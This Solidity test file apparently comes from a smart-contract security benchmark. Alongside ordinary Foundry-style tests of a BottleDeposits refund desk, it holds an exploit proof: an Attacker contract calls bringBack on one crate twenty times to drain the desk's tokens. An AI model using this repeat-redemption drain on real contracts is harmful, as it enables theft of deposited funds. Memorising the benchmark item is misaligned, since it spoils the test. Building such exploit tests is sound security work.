// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./BottleDeposits.sol";

// assay-canary-922dc133-6fe2-419d-af77-bffb875aff61

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Euro is ERC20("Euro", "EUR") {
    address private maker = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == maker, "maker only");
        _mint(to, amount);
    }
}

contract CrateRegistry is ICrateRegistry {
    address private maker = msg.sender;
    address public desk;
    mapping(uint256 => uint256) public override bottlesIn;
    mapping(uint256 => address) public holderOf;

    function setDesk(address desk_) external {
        require(msg.sender == maker, "maker only");
        desk = desk_;
    }

    function sell(uint256 crate, address to, uint256 bottles) external {
        require(msg.sender == maker, "maker only");
        bottlesIn[crate] = bottles;
        holderOf[crate] = to;
    }

    function redeem(uint256 crate, address holder) external override returns (bool) {
        if (msg.sender != desk || holder == address(0) || holderOf[crate] != holder) return false;
        holderOf[crate] = address(0);
        return true;
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);

    Euro public euro;
    CrateRegistry private registry;
    BottleDeposits private desk;
    Attacker private mallory;

    function setUp() public {
        euro = new Euro();
        registry = new CrateRegistry();
        desk = new BottleDeposits(euro, registry, 1e18);
        registry.setDesk(address(desk));
        registry.sell(1, ANA, 24);
        registry.sell(2, BEN, 12);
        euro.mint(address(desk), 480e18);
        desk.setCharity(CAT, true);
        mallory = new Attacker(desk);
    }

    function test_Regular() public {
        vm.prank(ANA);
        require(desk.bringBack(1) == 24e18 && euro.balanceOf(ANA) == 24e18, "brought back");
        vm.prank(BEN);
        require(desk.giveAway(2, CAT) == 12e18 && euro.balanceOf(CAT) == 12e18, "given away");
        require(desk.cratesBack() == 2, "two");
        desk.takeOut(100e18);
        require(euro.balanceOf(address(this)) == 100e18, "taken out");
        desk.setClosed(true);
        desk.setClosed(false);
        desk.transferOwnership(ANA);
        vm.prank(ANA);
        desk.renounceOwnership();
    }

    function test_RefusesOpening() public {
        vm.expectRevert("address is zero");
        new BottleDeposits(IERC20(address(0)), registry, 1);
        vm.expectRevert("address is zero");
        new BottleDeposits(euro, ICrateRegistry(address(0)), 1);
        vm.expectRevert("deposit is zero");
        new BottleDeposits(euro, registry, 0);
    }

    function denied() private {
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, ANA));
    }

    function test_RefusesStrangers() public {
        vm.startPrank(ANA);
        denied();
        desk.setClosed(true);
        denied();
        desk.setCharity(ANA, true);
        denied();
        desk.takeOut(1);
        vm.stopPrank();
    }

    function test_RefusesCrates() public {
        vm.startPrank(ANA);
        vm.expectRevert(abi.encodeWithSelector(BottleDeposits.EmptyCrate.selector, 3));
        desk.bringBack(3);
        vm.expectRevert("not a charity");
        desk.giveAway(1, BEN);
        vm.expectRevert(abi.encodeWithSelector(BottleDeposits.Refused.selector, 2));
        desk.giveAway(2, CAT);
        vm.stopPrank();
        vm.expectRevert("charity is zero");
        desk.setCharity(address(0), true);
    }

    function test_RefusesClosed() public {
        desk.setClosed(true);
        vm.startPrank(ANA);
        vm.expectRevert("desk is closed");
        desk.bringBack(1);
        vm.expectRevert("desk is closed");
        desk.giveAway(1, CAT);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(euro.balanceOf(address(mallory)) >= 400e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    BottleDeposits private desk;

    constructor(BottleDeposits desk_) {
        desk = desk_;
    }

    function run() external {
        for (uint256 i = 0; i < 20; i++) desk.bringBack(1);
    }
}
